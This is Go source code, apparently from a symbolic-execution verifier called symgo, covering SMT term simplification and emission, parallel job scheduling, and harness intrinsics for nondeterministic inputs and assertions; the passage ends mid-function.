		sx, sy := sext(x, a.W), sext(y, a.W)
		var r bool
		switch op {
		case "=":
			r = x == y
		case "bvult":
			r = x < y
		case "bvule":
			r = x <= y
		case "bvugt":
			r = x > y
		case "bvuge":
			r = x >= y
		case "bvslt":
			r = sx < sy
		case "bvsle":
			r = sx <= sy
		case "bvsgt":
			r = sx > sy
		case "bvsge":
			r = sx >= sy
		}
		return BoolC(r)
	}
	if op == "=" && sameTerm(a, b) {
		return TrueT
	}
	if a.W > 0 && !noRange {
		al, ah := a.rng()
		bl, bh := b.rng()
		half := uint64(1) << uint(a.W-1)
		uop := op
		if ah < half && bh < half {
			switch op {
			case "bvslt":
				uop = "bvult"
			case "bvsle":
				uop = "bvule"
			case "bvsgt":
				uop = "bvugt"
			case "bvsge":
				uop = "bvuge"
			}
		}
		switch uop {
		case "=":
			if ah < bl || bh < al {
				return FalseT
			}
		case "bvult":
			if ah < bl {
				return TrueT
			}
			if al >= bh {
				return FalseT
			}
		case "bvule":
			if ah <= bl {
				return TrueT
			}
			if al > bh {
				return FalseT
			}
		case "bvugt":
			if al > bh {
				return TrueT
			}
			if ah <= bl {
				return FalseT
			}
		case "bvuge":
			if al >= bh {
				return TrueT
			}
			if ah < bl {
				return FalseT
			}
		}
	}
	if a.W == 0 && op == "=" {
		// boolean equality
		if a.IsConst() {
			if a.Val == 1 {
				return b
			}
			return Not(b)
		}
		if b.IsConst() {
			if b.Val == 1 {
				return a
			}
			return Not(a)
		}
	}
	// ite(c, k1, k2) == k  with constants
	if op == "=" && a.Op == "ite" && b.IsConst() && a.Args[1].IsConst() && a.Args[2].IsConst() {
		t1 := a.Args[1].Val == b.Val
		t2 := a.Args[2].Val == b.Val
		switch {
		case t1 && t2:
			return TrueT
		case t1 && !t2:
			return a.Args[0]
		case !t1 && t2:
			return Not(a.Args[0])
		default:
			return FalseT
		}
	}
	return mk(op, 0, a, b)
}

func Eq(a, b *Term) *Term { return Cmp("=", a, b) }

func Not(a *Term) *Term {
	if a.IsConst() {
		return BoolC(a.Val == 0)
	}
	if a.Op == "not" {
		return a.Args[0]
	}
	return mk("not", 0, a)
}

func And(a, b *Term) *Term {
	if a.IsFalse() || b.IsFalse() {
		return FalseT
	}
	if a.IsTrue() {
		return b
	}
	if b.IsTrue() {
		return a
	}
	if a == b {
		return a
	}
	return mk("and", 0, a, b)
}

func Or(a, b *Term) *Term {
	if a.IsTrue() || b.IsTrue() {
		return TrueT
	}
	if a.IsFalse() {
		return b
	}
	if b.IsFalse() {
		return a
	}
	if a == b {
		return a
	}
	return mk("or", 0, a, b)
}

func Implies(a, b *Term) *Term { return Or(Not(a), b) }

func Ite(c, a, b *Term) *Term {
	if c.IsTrue() {
		return a
	}
	if c.IsFalse() {
		return b
	}
	if a.W != b.W {
		panic(fmt.Sprintf("ite width mismatch %d %d", a.W, b.W))
	}
	if sameTerm(a, b) {
		return a
	}
	if a.W == 0 {
		if a.IsTrue() && b.IsFalse() {
			return c
		}
		if a.IsFalse() && b.IsTrue() {
			return Not(c)
		}
	}
	return mk("ite", a.W, c, a, b)
}

func NotBV(a *Term) *Term {
	if a.IsConst() {
		return Const(a.W, ^a.Val)
	}
	return mk("bvnot", a.W, a)
}

func NegBV(a *Term) *Term {
	if a.IsConst() {
		return Const(a.W, -a.Val)
	}
	return mk("bvneg", a.W, a)
}

func Extract(a *Term, hi, lo int) *Term {
	w := hi - lo + 1
	if lo == 0 && w == a.W {
		return a
	}
	if a.IsConst() {
		return Const(w, a.Val>>uint(lo))
	}
	if a.Op == "zero_extend" || a.Op == "sign_extend" {
		inner := a.Args[0]
		if lo == 0 && hi < inner.W {
			return Extract(inner, hi, 0)
		}
	}
	t := mk("extract", w, a)
	t.Hi, t.Lo = hi, lo
	t.setRange()
	return t
}

func ZeroExt(a *Term, to int) *Term {
	if to == a.W {
		return a
	}
	if to < a.W {
		return Extract(a, to-1, 0)
	}
	if a.IsConst() {
		return Const(to, a.Val)
	}
	t := mk("zero_extend", to, a)
	t.Hi = to - a.W
	t.setRange()
	return t
}

func SignExt(a *Term, to int) *Term {
	if to == a.W {
		return a
	}
	if to < a.W {
		return Extract(a, to-1, 0)
	}
	if a.IsConst() {
		return Const(to, uint64(sext(a.Val, a.W)))
	}
	t := mk("sign_extend", to, a)
	t.Hi = to - a.W
	return t
}

// UF application: name(args...) with result width w. Declared lazily.
func UFApp(name string, w int, args ...*Term) *Term {
	t := mk("uf", w, args...)
	t.Name = name
	return t
}

func sortOf(w int) string {
	if w == 0 {
		return "Bool"
	}
	return fmt.Sprintf("(_ BitVec %d)", w)
}

func constSMT(t *Term) string {
	if t.W == 0 {
		if t.Val == 1 {
			return "true"
		}
		return "false"
	}
	if t.W%4 == 0 {
		return fmt.Sprintf("#x%0*x", t.W/4, t.Val)
	}
	return fmt.Sprintf("(_ bv%d %d)", t.Val, t.W)
}

// Emitter serialises terms into a solver session, defining shared nodes once.
type Emitter struct {
	defined map[*Term]string
	vars    map[string]int // declared variables -> width
	ufs     map[string]string
	out     *strings.Builder
	n       int
}

func NewEmitter() *Emitter {
	return &Emitter{defined: map[*Term]string{}, vars: map[string]int{}, ufs: map[string]string{}, out: &strings.Builder{}}
}

// Ref returns an SMT expression referring to t, emitting definitions to e.out as needed.
func (e *Emitter) Ref(t *Term) string {
	if s, ok := e.defined[t]; ok {
		return s
	}
	switch t.Op {
	case "const":
		return constSMT(t)
	case "var":
		if _, ok := e.vars[t.Name]; !ok {
			e.vars[t.Name] = t.W
			fmt.Fprintf(e.out, "(declare-const %s %s)\n", t.Name, sortOf(t.W))
		}
		return t.Name
	}
	// iterative post-order to avoid deep recursion
	type fr struct {
		t *Term
		i int
	}
	stack := []fr{{t, 0}}
	for len(stack) > 0 {
		top := &stack[len(stack)-1]
		if top.i < len(top.t.Args) {
			a := top.t.Args[top.i]
			top.i++
			if _, ok := e.defined[a]; ok {
				continue
			}
			if a.Op == "const" {
				continue
			}
			if a.Op == "var" {
				e.Ref(a)
				continue
			}
			stack = append(stack, fr{a, 0})
			continue
		}
		cur := top.t
		stack = stack[:len(stack)-1]
		if _, ok := e.defined[cur]; ok {
			continue
		}
		args := make([]string, len(cur.Args))
		for i, a := range cur.Args {
			switch a.Op {
			case "const":
				args[i] = constSMT(a)
			case "var":
				args[i] = a.Name
			default:
				args[i] = e.defined[a]
			}
		}
		var expr string
		switch cur.Op {
		case "extract":
			expr = fmt.Sprintf("((_ extract %d %d) %s)", cur.Hi, cur.Lo, args[0])
		case "zero_extend", "sign_extend":
			expr = fmt.Sprintf("((_ %s %d) %s)", cur.Op, cur.Hi, args[0])
		case "uf":
			if _, ok := e.ufs[cur.Name]; !ok {
				as := make([]string, len(cur.Args))
				for i, a := range cur.Args {
					as[i] = sortOf(a.W)
				}
				sig := fmt.Sprintf("(%s) %s", strings.Join(as, " "), sortOf(cur.W))
				e.ufs[cur.Name] = sig
				fmt.Fprintf(e.out, "(declare-fun %s %s)\n", cur.Name, sig)
			}
			if len(args) == 0 {
				expr = cur.Name
			} else {
				expr = fmt.Sprintf("(%s %s)", cur.Name, strings.Join(args, " "))
			}
		default:
			expr = fmt.Sprintf("(%s %s)", cur.Op, strings.Join(args, " "))
		}
		e.n++
		name := fmt.Sprintf("t!%d", e.n)
		fmt.Fprintf(e.out, "(define-fun %s () %s %s)\n", name, sortOf(cur.W), expr)
		e.defined[cur] = name
	}
	return e.defined[t]
}

// Flush returns and clears pending definitions.
func (e *Emitter) Flush() string {
	s := e.out.String()
	e.out.Reset()
	return s
}

// Eval evaluates a term under a model (var name -> value). Unknown vars = 0.
func Eval(t *Term, model map[string]uint64, memo map[*Term]uint64) uint64 {
	if v, ok := memo[t]; ok {
		return v
	}
	var r uint64
	switch t.Op {
	case "const":
		r = t.Val
	case "var":
		r = model[t.Name] & mask(maxw(t.W))
	case "uf":
		// cannot evaluate: treat as 0
		r = 0
	default:
		as := make([]*Term, len(t.Args))
		for i, a := range t.Args {
			as[i] = Const(maxw(a.W), Eval(a, model, memo))
			if a.W == 0 {
				as[i] = BoolC(Eval(a, model, memo) != 0)
			}
		}
		var x *Term
		switch t.Op {
		case "not":
			x = Not(as[0])
		case "and":
			x = And(as[0], as[1])
		case "or":
			x = Or(as[0], as[1])
		case "ite":
			x = Ite(as[0], as[1], as[2])
		case "bvnot":
			x = NotBV(as[0])
		case "bvneg":
			x = NegBV(as[0])
		case "extract":
			x = Extract(as[0], t.Hi, t.Lo)
		case "zero_extend":
			x = ZeroExt(as[0], t.W)
		case "sign_extend":
			x = SignExt(as[0], t.W)
		case "=", "bvult", "bvule", "bvugt", "bvuge", "bvslt", "bvsle", "bvsgt", "bvsge":
			x = Cmp(t.Op, as[0], as[1])
		default:
			x = BinBV(t.Op, as[0], as[1])
		}
		r = x.Val
	}
	memo[t] = r
	return r
}

func maxw(w int) int {
	if w == 0 {
		return 1
	}
	return w
}
