package main

// main.go - driver: check specs, job scheduling, evidence, violations, known findings.

import (
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime/pprof"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/tools/go/ssa"
)

type JobConfig struct {
	Entry           string         `json:"entry"`
	Params          map[string]int `json:"params,omitempty"`
	Unwind          int            `json:"unwind,omitempty"`
	MaxSteps        int            `json:"max_steps,omitempty"`
	MaxDepth        int            `json:"max_depth,omitempty"`
	MaxPreempt      int            `json:"max_preempt,omitempty"`
	MaxDelay        int            `json:"max_delay,omitempty"`
	DelayBounded    bool           `json:"delay_bounded,omitempty"`
	Merge           bool           `json:"merge,omitempty"`
	MapOrder        string         `json:"map_order,omitempty"`
	MapReverse      bool           `json:"map_reverse,omitempty"`
	Solver          string         `json:"solver,omitempty"`
	TimeoutMs       int            `json:"timeout_ms,omitempty"`
	MaxPaths        int            `json:"max_paths,omitempty"`
	Canary          bool           `json:"canary,omitempty"`
	ExpectViolation bool           `json:"expect_violation,omitempty"` // canary twin
	Trace           bool           `json:"-"`
	NoReplay        bool           `json:"-"`
	Concrete        *NativeWitness `json:"-"`
	Name            string         `json:"name,omitempty"`
}

type JobSpec struct {
	Entry      string            `json:"entry"`
	Sweep      map[string]string `json:"sweep,omitempty"` // param -> "a..b" or "a,b,c"
	Params     map[string]int    `json:"params,omitempty"`
	Unwind     int               `json:"unwind,omitempty"`
	MaxSteps   int               `json:"max_steps,omitempty"`
	MaxPreempt int               `json:"max_preempt,omitempty"`
	MaxDelay   int               `json:"max_delay,omitempty"` // >0: delay-bounded scheduling with this budget
	NoMerge    bool              `json:"no_merge,omitempty"`
	MapOrder   string            `json:"map_order,omitempty"`
	Solver     string            `json:"solver,omitempty"`
	TimeoutMs  int               `json:"timeout_ms,omitempty"`
	MaxPaths   int               `json:"max_paths,omitempty"`
	Canary     bool              `json:"canary,omitempty"` // also run the falsified twin (once, on the first param tuple)
	Tiers      []string          `json:"tiers,omitempty"`  // restrict to tiers
	Bounds     string            `json:"bounds,omitempty"`
	MustReach  []string          `json:"must_reach,omitempty"` // reachability witnesses: each label must be reached by some instance of this job
	NoReplay   bool              `json:"no_replay,omitempty"`  // schedule-dependent: counterexamples are not replayed natively
}

type PkgSpec struct {
	Pkg      string    `json:"pkg"`
	Harness  []string  `json:"harness"`
	API      []string  `json:"api,omitempty"` // extra harness API templates (e.g. "slog")
	Quick    []JobSpec `json:"quick"`
	Thorough []JobSpec `json:"thorough"`
}

type CheckSpec struct {
	Property    string    `json:"property"`
	Level       string    `json:"level"`
	Explain     string    `json:"explanation"`
	Assumptions []string  `json:"assumptions"`
	Outside     []string  `json:"outside"`
	Groups      []PkgSpec `json:"groups"`
	Replay      string    `json:"replay,omitempty"`
	Labels      []string  `json:"labels,omitempty"` // only violations whose label has one of these prefixes belong to this property
}

type jobState struct {
	cfg      *JobConfig
	w        *World
	entry    string
	mu       sync.Mutex
	paths    int
	pending  int
	asserts  int
	steps    int
	forks    int
	outcomes map[string]int
	reaches  map[string]bool
	viol     []Violation
	inconcl  []string
	samples  []string
	start    time.Time
	wall     time.Duration
	overflow bool
	// early stop: once stopAfter violations whose label satisfies countLabel have been found,
	// the rest of this job's path tree is not explored (the verdict is already "violated")
	stopAfter  int
	countLabel func(string) bool
	counted    int
	stopped    bool
	started    int        // guarded by the work queue's lock
	sg         *stopGroup // jobs of one harness entry share the verdict: one stops, all stop
}

type stopGroup struct{ stopped atomic.Bool }

type workItem struct {
	job    *jobState
	prefix []Decision
}

// workQueue: one DFS stack per job; a free worker takes the next path of the job that has
// had the fewest paths started so far, so small instances finish (and report) first and a
// huge instance cannot starve the others.
type workQueue struct {
	mu     sync.Mutex
	cond   *sync.Cond
	jobs   []*jobState
	stacks map[*jobState][]workItem
	nitems int
	busy   int
	done   bool
}

func (q *workQueue) push(it workItem) {
	q.mu.Lock()
	if q.stacks == nil {
		q.stacks = map[*jobState][]workItem{}
	}
	if _, ok := q.stacks[it.job]; !ok {
		q.jobs = append(q.jobs, it.job)
	}
	q.stacks[it.job] = append(q.stacks[it.job], it)
	q.nitems++
	q.mu.Unlock()
	q.cond.Signal()
}

func (q *workQueue) pop() (workItem, bool) {
	q.mu.Lock()
	defer q.mu.Unlock()
	for q.nitems == 0 {
		if q.busy == 0 {
			q.done = true
			q.cond.Broadcast()
			return workItem{}, false
		}
		q.cond.Wait()
		if q.done {
			return workItem{}, false
		}
	}
	var best *jobState
	for _, j := range q.jobs {
		if len(q.stacks[j]) > 0 && (best == nil || j.started < best.started) {
			best = j
		}
	}
	st := q.stacks[best]
	it := st[len(st)-1]
	q.stacks[best] = st[:len(st)-1]
	q.nitems--
	best.started++
	q.busy++
	return it, true
}

func (q *workQueue) finish() {
	q.mu.Lock()
	q.busy--
	q.mu.Unlock()
	q.cond.Broadcast()
}

type solverStats struct {
	Queries, Sat, Unsat, Unknown, Errors int
	Rescued                              int // primary said unknown, the second solver decided
	TimeS                                float64
}

func runJobs(jobs []*jobState, workers int, verbose bool) map[string]*solverStats {
	q := &workQueue{}
	q.cond = sync.NewCond(&q.mu)
	for _, j := range jobs {
		j.pending = 1
		j.start = time.Now()
		q.push(workItem{job: j})
	}
	stats := map[string]*solverStats{}
	var smu sync.Mutex
	var wg sync.WaitGroup
	if verbose {
		stopProg := make(chan struct{})
		defer close(stopProg)
		go func() {
			for {
				select {
				case <-stopProg:
					return
				case <-time.After(30 * time.Second):
				}
				for _, j := range jobs {
					j.mu.Lock()
					if j.pending > 0 {
						fmt.Fprintf(os.Stderr, "  [progress] %s%v canary=%v paths=%d pending=%d viol=%d stopped=%v\n", j.entry, j.cfg.Params, j.cfg.Canary, j.paths, j.pending, len(j.viol), j.stopped)
					}
					j.mu.Unlock()
				}
			}
		}()
	}
	for wi := 0; wi < workers; wi++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			solvers := map[string]*Solver{}
			defer func() {
				smu.Lock()
				for k, s := range solvers {
					st := stats[k]
					if st == nil {
						st = &solverStats{}
						stats[k] = st
					}
					st.Queries += s.Queries
					st.Sat += s.Sat
					st.Unsat += s.Unsat
					st.Unknown += s.Unknown
					st.Errors += s.Errors
					st.TimeS += s.Time.Seconds()
					st.Rescued += s.Rescued
					if s.fb != nil {
						fk := "second:" + s.fb.kind
						fs := stats[fk]
						if fs == nil {
							fs = &solverStats{}
							stats[fk] = fs
						}
						fs.Queries += s.fb.Queries
						fs.TimeS += s.fb.Time.Seconds()
						fs.Errors += s.fb.Errors
					}
					s.Close()
				}
				smu.Unlock()
			}()
			for {
				it, ok := q.pop()
				if !ok {
					return
				}
				j := it.job
				j.mu.Lock()
				if j.sg != nil && j.sg.stopped.Load() {
					j.stopped = true
				}
				if j.stopped {
					j.pending--
					if j.pending == 0 {
						j.wall = time.Since(j.start)
					}
					j.mu.Unlock()
					q.finish()
					continue
				}
				j.mu.Unlock()
				key := fmt.Sprintf("%s/%d", j.cfg.Solver, j.cfg.TimeoutMs)
				s := solvers[key]
				if s == nil || s.dead {
					var err error
					s, err = NewSolver(j.cfg.Solver, j.cfg.TimeoutMs)
					if err != nil {
						j.mu.Lock()
						j.inconcl = append(j.inconcl, "cannot start solver: "+err.Error())
						j.pending--
						j.mu.Unlock()
						q.finish()
						continue
					}
					solvers[key] = s
				}
				in := newInterp(j.w, s, j.cfg, it.prefix)
				entry := j.w.pkg.Func(j.entry)
				res := in.runPath(entry)
				j.mu.Lock()
				j.paths++
				j.asserts += res.Asserts
				j.steps += res.Steps
				j.forks += res.Forks
				j.outcomes[res.Outcome]++
				for k := range res.Reaches {
					j.reaches[k] = true
				}
				j.viol = append(j.viol, res.Violations...)
				j.inconcl = append(j.inconcl, res.Inconcl...)
				if len(j.samples) < 3 {
					j.samples = append(j.samples, fmt.Sprintf("path %d: outcome=%s decisions=%d asserts=%d steps=%d %s", j.paths, res.Outcome, len(in.trace), res.Asserts, res.Steps, res.Detail))
				}
				alts := res.Alts
				if j.stopAfter > 0 {
					for _, v := range res.Violations {
						if j.countLabel == nil || j.countLabel(v.Label) {
							j.counted++
						}
					}
					if j.counted >= j.stopAfter {
						j.stopped = true
						alts = nil
						if j.sg != nil {
							j.sg.stopped.Store(true)
						}
					}
				}
				if j.cfg.MaxPaths > 0 && j.paths+j.pending-1+len(alts) > j.cfg.MaxPaths {
					if len(alts) > 0 {
						j.overflow = true
					}
					alts = nil
				}
				j.pending += len(alts) - 1
				if j.pending == 0 {
					j.wall = time.Since(j.start)
				}
				j.mu.Unlock()
				if verbose && res.Outcome == "inconclusive" {
					fmt.Fprintf(os.Stderr, "  [%s %v] inconclusive: %s\n", j.entry, j.cfg.Params, res.Detail)
				}
				for _, a := range alts {
					q.push(workItem{job: j, prefix: a})
				}
				q.finish()
			}
		}()
	}
	wg.Wait()
	return stats
}

func newInterp(w *World, s *Solver, cfg *JobConfig, prefix []Decision) *Interp {
	return &Interp{w: w, solver: s, cfg: cfg, prefix: prefix, globals: map[*ssa.Global]*Cell{}, stubCalls: map[string]int{}, ghost: map[string]Value{}, natives: map[string]interface{}{}, canary: cfg.Canary}
}

func expandSweep(js JobSpec) []map[string]int {
	out := []map[string]int{{}}
	for k, v := range js.Params {
		for _, m := range out {
			m[k] = v
		}
	}
	keys := make([]string, 0, len(js.Sweep))
	for k := range js.Sweep {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		var vals []int
		for _, part := range strings.Split(js.Sweep[k], ",") {
			part = strings.TrimSpace(part)
			if i := strings.Index(part, ".."); i >= 0 {
				a, _ := strconv.Atoi(part[:i])
				b, _ := strconv.Atoi(part[i+2:])
				for x := a; x <= b; x++ {
					vals = append(vals, x)
				}
			} else {
				a, _ := strconv.Atoi(part)
				vals = append(vals, a)
			}
		}
		var next []map[string]int
		for _, m := range out {
			for _, v := range vals {
				n := map[string]int{}
				for kk, vv := range m {
					n[kk] = vv
				}
				n[k] = v
				next = append(next, n)
			}
		}
		out = next
	}
	return out
}

func mkConfig(js JobSpec, params map[string]int, tier string) *JobConfig {
	c := &JobConfig{Entry: js.Entry, Params: params, Unwind: js.Unwind, MaxSteps: js.MaxSteps, MaxPreempt: js.MaxPreempt,
		Merge: !js.NoMerge, MapOrder: js.MapOrder, Solver: js.Solver, TimeoutMs: js.TimeoutMs, MaxPaths: js.MaxPaths}
	c.NoReplay = js.NoReplay
	c.MaxDelay = js.MaxDelay
	c.DelayBounded = js.MaxDelay > 0
	if c.Unwind == 0 {
		c.Unwind = 300
	}
	if c.MaxSteps == 0 {
		c.MaxSteps = 2000000
	}
	c.MaxDepth = 200
	if c.Solver == "" {
		c.Solver = "z3"
	}
	// cross-checking an encoding with another back end: VERIF_SOLVER=z3-new|cvc5|cvc5-int|z3
	// overrides every job's solver (tools/solver_diff.sh); not used by the registered commands
	if v := os.Getenv("VERIF_SOLVER"); v != "" {
		c.Solver = v
	}
	if c.TimeoutMs == 0 {
		if tier == "thorough" {
			c.TimeoutMs = 120000
		} else {
			c.TimeoutMs = 30000
		}
	}
	if c.MaxPaths == 0 {
		c.MaxPaths = 200000
	}
	return c
}

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: symgo check <ID> [--tier quick|thorough] | symgo run ...")
		os.Exit(2)
	}
	if pf := os.Getenv("SYMGO_PROF"); pf != "" {
		f, _ := os.Create(pf)
		pprof.StartCPUProfile(f)
		go func() {
			time.Sleep(20 * time.Second)
			pprof.StopCPUProfile()
			f.Close()
			os.Exit(3)
		}()
	}
	switch os.Args[1] {
	case "check":
		os.Exit(cmdCheck(os.Args[2:]))
	case "run":
		os.Exit(cmdRun(os.Args[2:]))
	case "replay":
		os.Exit(cmdReplay(os.Args[2:]))
	default:
		fmt.Fprintln(os.Stderr, "unknown command")
		os.Exit(2)
	}
}

// cmdRun: ad-hoc single harness run (development aid).
func cmdRun(args []string) int {
	fs := flag.NewFlagSet("run", flag.ExitOnError)
	repo := fs.String("repo", "/repo", "")
	pkg := fs.String("pkg", "", "")
	harness := fs.String("harness", "", "comma separated files")
	entry := fs.String("entry", "", "")
	params := fs.String("params", "", "k=v,k=v")
	trace := fs.Bool("trace", false, "")
	workers := fs.Int("workers", 16, "")
	nomerge := fs.Bool("nomerge", false, "")
	canary := fs.Bool("canary", false, "")
	solver := fs.String("solver", "z3", "")
	unwind := fs.Int("unwind", 300, "")
	maxSteps := fs.Int("steps", 0, "step bound per path")
	preempt := fs.Int("preempt", 2, "")
	maporder := fs.String("maporder", "", "")
	delay := fs.Int("delay", 0, "")
	fs.Parse(args)
	w, err := LoadWorld(*repo, *pkg, strings.Split(*harness, ","), "")
	if err != nil {
		fmt.Fprintln(os.Stderr, "ENGINE-ERROR:", err)
		return 2
	}
	p := map[string]int{}
	if *params != "" {
		for _, kv := range strings.Split(*params, ",") {
			i := strings.Index(kv, "=")
			v, _ := strconv.Atoi(kv[i+1:])
			p[kv[:i]] = v
		}
	}
	cfg := mkConfig(JobSpec{Entry: *entry, NoMerge: *nomerge, Solver: *solver, Unwind: *unwind, MaxSteps: *maxSteps, MaxPreempt: *preempt, MapOrder: *maporder}, p, "quick")
	cfg.Trace = *trace
	cfg.MaxDelay = *delay
	cfg.DelayBounded = *delay > 0
	cfg.Canary = *canary
	if w.pkg.Func(*entry) == nil {
		fmt.Fprintln(os.Stderr, "ENGINE-ERROR: no such harness function", *entry)
		return 2
	}
	j := &jobState{cfg: cfg, w: w, entry: *entry, outcomes: map[string]int{}, reaches: map[string]bool{}}
	t0 := time.Now()
	stats := runJobs([]*jobState{j}, *workers, true)
	fmt.Printf("paths=%d asserts=%d steps=%d forks=%d outcomes=%v reaches=%v wall=%.2fs\n", j.paths, j.asserts, j.steps, j.forks, j.outcomes, sortedKeys(j.reaches), time.Since(t0).Seconds())
	for k, s := range stats {
		fmt.Printf("solver %s: %+v\n", k, *s)
	}
	for i, v := range j.viol {
		if i > 5 {
			break
		}
		b, _ := json.Marshal(v)
		fmt.Printf("VIOLATION-CANDIDATE %s\n", b)
	}
	for i, s := range j.inconcl {
		if i > 5 {
			break
		}
		fmt.Println("INCONCLUSIVE:", s)
	}
	return 0
}

func verifRoot() string {
	if v := os.Getenv("VERIF_ROOT"); v != "" {
		return v
	}
	exe, err := os.Executable()
	if err == nil {
		return filepath.Dir(filepath.Dir(exe))
	}
	return "/verif"
}
