package main

// harnessapi.go - the bodiless functions a harness may call (nondet*, verif*).

import (
	"fmt"
	"go/types"
	"strings"
)

func (in *Interp) recordNondet(kind string, t *Term) {
	in.nondets = append(in.nondets, NondetRec{Name: t.Name, Kind: kind, Vars: []string{t.Name}, Width: t.W})
}

func (in *Interp) harnessIntrinsic(g *Goroutine, name string, c *callCtx) (Value, int) {
	a := c.args
	if in.cfg.Concrete != nil && strings.HasPrefix(name, "nondet") {
		return in.concreteNondet(name, a), irDone
	}
	switch name {
	case "verifObserve":
		label, _ := a[0].(*StrV).Concrete()
		bs := in.bytesOf(a[1])
		var sb strings.Builder
		for _, b := range bs {
			if !b.IsConst() {
				sb.WriteString("??")
				continue
			}
			fmt.Fprintf(&sb, "%02x", b.Val)
		}
		in.observed = append(in.observed, label+"="+sb.String())
		return nil, irDone
	case "nondetBool":
		v := in.freshVar("b", 0)
		in.recordNondet("bool", v)
		return v, irDone
	case "nondetByte", "nondetUint8":
		v := in.freshVar("u8", 8)
		in.recordNondet("u8", v)
		return v, irDone
	case "nondetInt", "nondetInt64", "nondetUint64", "nondetUint":
		v := in.freshVar("i64", 64)
		in.recordNondet("i64", v)
		return v, irDone
	case "nondetInt32", "nondetUint32", "nondetRune":
		v := in.freshVar("i32", 32)
		in.recordNondet("i32", v)
		return v, irDone
	case "nondetUint16":
		v := in.freshVar("u16", 16)
		in.recordNondet("u16", v)
		return v, irDone
	case "nondetLen", "nondetChoice":
		n := in.concreteInt(a[0].(*Term), name)
		if name == "nondetLen" {
			n++
		}
		if n <= 0 {
			in.abort("pruned", "empty choice")
		}
		k := in.choose(n, name)
		in.nondets = append(in.nondets, NondetRec{Kind: "choice", Value: int64(k)})
		return Const(64, uint64(k)), irDone
	case "nondetBytes":
		n := in.concreteInt(a[0].(*Term), name)
		spare := in.concreteInt(a[1].(*Term), name)
		sl := in.makeSlice(types.Typ[types.Uint8], n, n+spare)
		rec := NondetRec{Kind: "bytes"}
		for i := 0; i < n+spare; i++ {
			v := in.freshVar("by", 8)
			sl.Cells[i].V = v
			rec.Vars = append(rec.Vars, v.Name)
		}
		rec.Value = int64(n)
		in.nondets = append(in.nondets, rec)
		if n+spare == 0 {
			return &SliceV{Cells: []*Cell{}, Len: 0}, irDone
		}
		return sl, irDone
	case "nondetString":
		n := in.concreteInt(a[0].(*Term), name)
		s := &StrV{B: make([]*Term, n)}
		rec := NondetRec{Kind: "string"}
		for i := 0; i < n; i++ {
			v := in.freshVar("sb", 8)
			s.B[i] = v
			rec.Vars = append(rec.Vars, v.Name)
		}
		in.nondets = append(in.nondets, rec)
		return s, irDone
	case "verifAssume":
		cond := a[0].(*Term)
		if cond.IsTrue() {
			return nil, irDone
		}
		if cond.IsFalse() {
			in.abort("pruned", "assumption false")
		}
		r := in.solver.Check(cond)
		in.solver.Done()
		if r == "unsat" {
			in.abort("pruned", "assumption infeasible")
		}
		in.addPC(cond)
		return nil, irDone
	case "verifAssert":
		cond := a[0].(*Term)
		label, _ := a[1].(*StrV).Concrete()
		if in.canary && strings.HasPrefix(label, "canary:") {
			// in canary runs, canary assertions are expected to fail
		}
		if !in.checkObligation(cond, label, "assert", "assertion "+label+" can fail") {
			// continue under the assumption that it held, if feasible; if it always fails here
			// keep going without the assumption so that later assertions (possibly belonging to
			// another property) are still evaluated on this path
			r := in.solver.Check(cond)
			in.solver.Done()
			if r == "unsat" {
				in.res.Outcome = "violation"
				return nil, irDone
			}
		}
		in.addPC(cond)
		return nil, irDone
	case "verifReach":
		label, _ := a[0].(*StrV).Concrete()
		in.res.Reaches[label] = true
		return nil, irDone
	case "verifUnreachable":
		label, _ := a[0].(*StrV).Concrete()
		in.reportPathViolation(Violation{Label: label, Kind: "unreachable", Detail: "reached point declared unreachable: " + label})
		return nil, irDone
	case "verifCanary":
		return BoolC(in.canary), irDone
	case "verifParam":
		k, _ := a[0].(*StrV).Concrete()
		v, ok := in.cfg.Params[k]
		if !ok {
			panic(engineErr("missing harness parameter " + k))
		}
		return Const(64, uint64(int64(v))), irDone
	case "verifConcreteInt":
		v := in.concreteInt(a[0].(*Term), "verifConcreteInt")
		return Const(64, uint64(int64(v))), irDone
	case "verifLog":
		s := a[0].(*StrV)
		in.events = append(in.events, s.String())
		return nil, irDone
	case "verifYield":
		if in.syncPoint(g) {
			return nil, irYield
		}
		return nil, irDone
	case "verifLive":
		// number of goroutines other than main and harness actors that have not finished
		n := 0
		for _, o := range in.gors {
			if o.id != 0 && o != g && o.status != gDone && !o.isActor {
				n++
			}
		}
		return Const(64, uint64(n)), irDone
	case "verifLiveDesc":
		var parts []string
		for _, o := range in.gors {
			if o.id != 0 && o != g && o.status != gDone && !o.isActor {
				parts = append(parts, fmt.Sprintf("%s blocked on %s", o.name, o.blockedOn))
			}
		}
		in.events = append(in.events, "live: "+strings.Join(parts, "; "))
		return nil, irDone
	case "verifQuiesce":
		// let every other goroutine run until none is enabled
		for _, o := range in.gors {
			if o == g || o.status == gDone {
				continue
			}
			if o.status == gRunnable || (o.status == gBlocked && o.ready != nil && o.ready()) {
				// park ourselves until they are all blocked/done
				in.block(g, "quiesce", func() bool {
					for _, p := range in.gors {
						if p == g || p.status == gDone {
							continue
						}
						if p.status == gRunnable || (p.ready != nil && p.ready()) {
							return false
						}
					}
					return true
				})
				return nil, irBlocked
			}
		}
		return nil, irDone
	case "verifActor":
		// mark current goroutine as a harness actor (not counted as leak)
		g.isActor = true
		return nil, irDone
	case "verifStubCalls":
		k, _ := a[0].(*StrV).Concrete()
		return Const(64, uint64(in.stubCalls[k])), irDone
	case "verifSameBacking":
		// do two slices share their first backing cell?
		x, y := a[0].(*SliceV), a[1].(*SliceV)
		if x.Cap() == 0 || y.Cap() == 0 {
			return FalseT, irDone
		}
		return BoolC(x.Cells[0] == y.Cells[0]), irDone
	}
	if v, r, ok := in.harnessIntrinsic2(g, name, c); ok {
		return v, r
	}
	panic(engineErr("unknown harness intrinsic " + name))
}

type NativeRec struct {
	Kind  string   `json:"kind"`
	Value int64    `json:"value"`
	Vals  []uint64 `json:"vals"`
}

type NativeWitness struct {
	Params  map[string]int `json:"params"`
	Nondets []NativeRec    `json:"nondets"`
	Canary  bool           `json:"canary"`
}

func (in *Interp) concreteNondet(name string, a []Value) Value {
	var r NativeRec
	if in.concPos < len(in.cfg.Concrete.Nondets) {
		r = in.cfg.Concrete.Nondets[in.concPos]
		in.concPos++
	}
	scalar := func() uint64 {
